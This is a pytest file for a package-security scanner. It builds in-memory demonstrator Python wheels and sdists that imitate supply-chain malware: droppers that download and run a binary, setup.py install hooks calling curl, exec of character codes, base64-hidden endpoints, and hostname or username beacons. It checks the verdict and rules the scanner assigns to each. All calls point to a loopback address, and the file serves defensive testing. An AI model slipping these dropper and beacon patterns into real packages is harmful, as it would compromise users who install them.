# ruff: noqa: E501  (the demonstrators' source text keeps its long lines)
"""Payloads that hide from a file-by-file, top-level-only reading, as harmless demonstrators.

Droppers that run only when a function is called, install hooks that call into another
file, near-empty placeholder uploads, strings spelled as character codes or base64. Each
gets its verdict and rules. Built in memory, "exfiltrating" to 127.0.0.1 only, never
installed, imported or run.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from bastion.protect.scan.engine import Config, scan_bytes
from bastion.protect.scan.policy import Thresholds, verdict
from bastion.protect.scan.report import Finding
from bastion.protect.scan.rules import RulesError, load_rules
from tests.protect.scan.builders import (
    LOOPBACK,
    PLAIN_SETUP,
    SMALL_LIBRARY,
    Case,
    check,
    code,
    demo_sdist,
    pkg_info,
    scan,
    sdist,
    wheel,
)

pytestmark = pytest.mark.one_backend

# A real (small) module, so that the technique, not a placeholder, is what is found.
LIBRARY = {"demo/text.py": SMALL_LIBRARY}
ENCODED_URL = base64.b64encode(f"{LOOPBACK}/collect".encode()).decode()
FAKE_BOT_TOKEN = "123456789:AA" + "x" * 33

CASES = [
    Case(
        "dropper-split-over-helpers-called-by-nobody",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": "",
                "demo/updater.py": code(f"""
            import os, subprocess, tempfile, urllib.request

            def _fetch(url):
                return urllib.request.urlopen(url).read()

            def _save(data):
                path = os.path.join(tempfile.gettempdir(), "tool.bin")
                with open(path, "wb") as handle:
                    handle.write(data)
                return path

            def update(url="{LOOPBACK}/tool"):
                subprocess.Popen([_save(_fetch(url))])
            """),
            },
        ),
        "suspicious",
        frozenset({"download-run-function"}),
    ),
    Case(
        "executable-url-and-startfile",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": "",
                "demo/tools.py": code(f"""
            import os, requests

            def install_helper():
                blob = requests.get("{LOOPBACK}/helper.exe").content
                os.startfile(blob and "helper.exe")
            """),
            },
        ),
        "suspicious",
        frozenset({"fetch-executable", "remote-executable"}),
    ),
    Case(
        "post-install-command-runs-a-program",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                **LIBRARY,
                "setup.py": code("""
            import os
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    install.run(self)
                    os.system("echo installed > /tmp/demo-marker")

            setup(name="demo", version="1.0", cmdclass={"install": PostInstall})
            """),
            }
        ),
        "suspicious",
        frozenset({"post-install-hook-action", "post-install-hook", "install-process"}),
    ),
    Case(
        "install-command-calls-a-helper-in-another-file",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                **LIBRARY,
                "pre_install.py": code(f"""
            import subprocess

            def prepare():
                subprocess.run("curl -s {LOOPBACK}/p.sh -o /tmp/p.sh", shell=True)
            """),
                "setup.py": code("""
            from setuptools import setup
            from setuptools.command.install import install
            from pre_install import prepare

            class Install(install):
                def run(self):
                    prepare()
                    install.run(self)

            setup(name="demo", version="1.0", cmdclass={"install": Install})
            """),
            }
        ),
        "malicious",
        frozenset({"process-network", "install-network-tool"}),
    ),
    Case(
        "init-calls-a-dropper-in-a-sibling-module",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": "from .loader import start\n\nstart()\n",
                "demo/loader.py": code(f"""
            import subprocess, urllib.request

            def start():
                data = urllib.request.urlopen("{LOOPBACK}/bin").read()
                with open("/tmp/demo-bin", "wb") as handle:
                    handle.write(data)
                subprocess.Popen(["/tmp/demo-bin"])
            """),
            },
        ),
        "malicious",
        frozenset({"import-download-run", "drop-and-run"}),
    ),
    Case(
        "setup-runs-character-codes",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                **LIBRARY,
                "setup.py": PLAIN_SETUP
                + 'exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n',
            }
        ),
        "malicious",
        frozenset({"exec-decoded", "char-codes"}),
    ),
    Case(
        "setup-spells-a-path-in-character-codes",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                **LIBRARY,
                "setup.py": PLAIN_SETUP
                + "marker = ''.join(chr(c) for c in [47, 116, 109, 112, 47, 100, 101, 109, 111])\n",
            }
        ),
        "suspicious",
        frozenset({"char-codes"}),
    ),
    Case(
        "base64-url-in-a-function",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": "",
                "demo/report.py": code(f"""
            import base64, requests

            ENDPOINT = "{ENCODED_URL}"

            def report(data):
                requests.post(base64.b64decode(ENDPOINT).decode(), data=data)
            """),
            },
        ),
        "suspicious",
        frozenset({"encoded-address", "hidden-endpoint"}),
    ),
    Case(
        "placeholder-that-says-it-is-a-dummy",
        "demo-1.0.tar.gz",
        demo_sdist(
            {"setup.py": PLAIN_SETUP},
            info=pkg_info("demo", "1.0", summary="Dummy package reserving the name"),
        ),
        "suspicious",
        frozenset({"placeholder-anonymous", "placeholder-package", "metadata-self-described-test"}),
    ),
    Case(
        "placeholder-whose-setup-runs-a-program",
        "demo-1.0.tar.gz",
        demo_sdist({"setup.py": PLAIN_SETUP + "import subprocess\nsubprocess.call(['id'])\n"}),
        "suspicious",
        frozenset({"placeholder-install-code", "placeholder-package", "install-process"}),
    ),
    Case(
        "self-described-poc-that-reports-home",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": "",
                "demo/ping.py": code(f"""
            import socket, urllib.request

            def ping():
                urllib.request.urlopen("{LOOPBACK}/?h=" + socket.gethostname())
            """),
            },
            info=pkg_info("demo", "1.0", summary="Dependency confusion PoC"),
        ),
        "suspicious",
        frozenset({"self-described-probe", "metadata-self-described-test"}),
    ),
    Case(
        "high-version-probe-that-reports-home",
        "demo-99.0.0.tar.gz",
        sdist(
            "demo",
            "99.0.0",
            {
                **LIBRARY,
                "setup.py": PLAIN_SETUP,
                "demo/__init__.py": '__version__ = "99.0.0"\n',
                "demo/ping.py": code(f"""
            import getpass, urllib.request

            def ping():
                urllib.request.urlopen("{LOOPBACK}/?u=" + getpass.getuser())
            """),
            },
        ),
        "suspicious",
        frozenset({"dependency-confusion-probe", "dependency-confusion-version"}),
    ),
    Case(
        "download-then-run-command-in-a-function",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": "",
                "demo/setup_tool.py": code(f"""
            import os

            def fetch_tool():
                os.system("curl -s {LOOPBACK}/t -o /tmp/t && chmod +x /tmp/t && /tmp/t")
            """),
            },
        ),
        "suspicious",
        frozenset({"download-then-run"}),
    ),
    Case(
        "pip-install-on-import",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": code("""
            import subprocess, sys
            subprocess.check_call([sys.executable, "-m", "pip", "install", "demo-helper"])
            """),
            },
        ),
        "suspicious",
        frozenset({"pip-install", "import-process"}),
    ),
    Case(
        "python-started-on-import",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": code("""
            import subprocess
            subprocess.Popen(["python3", "-c", "import demo_helper"], close_fds=True)
            """),
            },
        ),
        "suspicious",
        frozenset({"spawn-python", "import-process"}),
    ),
    Case(
        "telegram-bot-in-a-function",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": "",
                "demo/bot.py": code(f"""
            import telebot

            def send(text):
                telebot.TeleBot("{FAKE_BOT_TOKEN}").send_message(1, text)
            """),
            },
        ),
        "suspicious",
        frozenset({"telegram-bot-token", "exfil-endpoint-network"}),
    ),
    Case(
        "template-metadata-on-a-function-that-calls-home",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                **LIBRARY,
                "demo/__init__.py": "",
                "demo/sync.py": code(f"""
            import requests

            def sync(data):
                requests.post("{LOOPBACK}/s", data=data)
            """),
            },
            info=pkg_info("demo", "1.0").replace(
                "\n\n", "\nAuthor-email: Your Name <you@example.com>\n\n", 1
            ),
        ),
        "suspicious",
        frozenset({"template-metadata-capabilities", "metadata-template"}),
    ),
    Case(
        "install-command-calls-the-package-with-a-command-in-a-variable",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                **LIBRARY,
                "demo/__init__.py": code(f"""
            import os

            def thank_you():
                command = f'curl -s "{LOOPBACK}/thanks.png" -o /tmp/thanks.png'
                os.system(command)
            """),
                "setup.py": code("""
            from setuptools import setup
            from setuptools.command.install import install

            class Install(install):
                def run(self):
                    from demo import thank_you
                    thank_you()
                    install.run(self)

            setup(name="demo", version="1.0", cmdclass={"install": Install})
            """),
            }
        ),
        "malicious",
        frozenset({"process-network", "install-network-tool", "post-install-hook"}),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_demonstrator_gets_its_verdict_and_rules(case: Case) -> None:
    check(case)


def test_a_function_that_only_downloads_is_no_dropper() -> None:
    data = wheel(
        "demo",
        "1.0",
        {
            **LIBRARY,
            "demo/__init__.py": "",
            "demo/cache.py": code(f"""
        import subprocess, urllib.request

        def download(path):
            with open(path, "wb") as handle:
                handle.write(urllib.request.urlopen("{LOOPBACK}/data").read())

        def git_version():
            return subprocess.run(["git", "describe"], capture_output=True).stdout
        """),
        },
    )
    report = scan(data, "demo-1.0-py3-none-any.whl")
    assert "download-run-function" not in {f.rule for f in report.findings}
    assert report.verdict == "clean"


def test_setup_importing_its_package_for_the_version_is_clean() -> None:
    data = demo_sdist(
        {
            **LIBRARY,
            "setup.py": code("""
        from setuptools import setup
        from demo import __version__

        setup(name="demo", version=__version__, packages=["demo"])
        """),
        }
    )
    report = scan(data, "demo-1.0.tar.gz")
    assert report.verdict == "clean", report.findings


def test_placeholder_rules_never_make_an_upload_malicious() -> None:
    findings = [
        Finding("placeholder-install-code", "high", "demo/setup.py", 1, ""),
        Finding("install-network", "high", "demo/setup.py", 2, ""),
    ]
    capped = frozenset({"placeholder-install-code"})
    assert verdict(findings, Thresholds(), capped) == "suspicious"
    assert verdict(findings, Thresholds()) == "suspicious"
    findings.append(Finding("install-decode", "high", "demo/setup.py", 3, ""))
    assert verdict(findings, Thresholds(), capped) == "suspicious"
    assert verdict(findings, Thresholds()) == "malicious"
    findings.append(Finding("install-beacon", "critical", "demo/setup.py", 4, ""))
    assert verdict(findings, Thresholds(), capped) == "malicious"


def test_at_most_is_checked_when_rules_load(tmp_path: Path) -> None:
    rules = load_rules()
    assert {"placeholder-anonymous", "placeholder-install-code"} <= rules.capped
    assert "download-run-function" not in rules.capped
    bad = tmp_path / "bad.toml"
    bad.write_text(
        '[[rule]]\nid = "x"\ndescription = "x"\ncapability = "network"\n'
        'severity = "low"\nat_most = "clean"\n'
    )
    with pytest.raises(RulesError, match="at_most"):
        load_rules((bad,))


def test_capped_rules_apply_through_the_engine() -> None:
    # a placeholder whose setup.py both runs a program and opens a connection
    data = demo_sdist(
        {
            "setup.py": PLAIN_SETUP
            + f"import subprocess, urllib.request\nsubprocess.call(['id'])\nurllib.request.urlopen('{LOOPBACK}')\n"
        }
    )
    report = scan_bytes(data, "demo-1.0.tar.gz", Config(rules=load_rules()))
    rules = {f.rule for f in report.findings}
    assert {"placeholder-install-code", "install-download-run"} <= rules
    assert report.verdict == "malicious"  # the critical combination, not the placeholder
